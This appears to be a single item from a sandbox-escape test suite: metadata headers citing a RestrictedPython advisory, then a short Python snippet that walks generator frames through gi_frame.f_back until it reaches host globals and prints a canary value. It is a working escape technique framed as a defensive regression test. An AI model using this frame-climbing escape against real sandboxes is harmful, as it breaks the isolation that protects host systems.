# id: generator-gi-frame-back
# family: frames
# kind: escape
# invariant: C, D, E, G
# origin: RestrictedPython advisory CVE-2023-37271
# technique: while a generator runs, gi_frame.f_back is whoever resumed it, and from there it goes out to the host
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, interpreter
# fix: structural
# alive-when: canary


def climber():
    frame = walker.gi_frame.f_back
    while "CANARY" not in frame.f_globals:
        frame = frame.f_back
    yield frame.f_globals["CANARY"]


walker = climber()
print(next(walker))
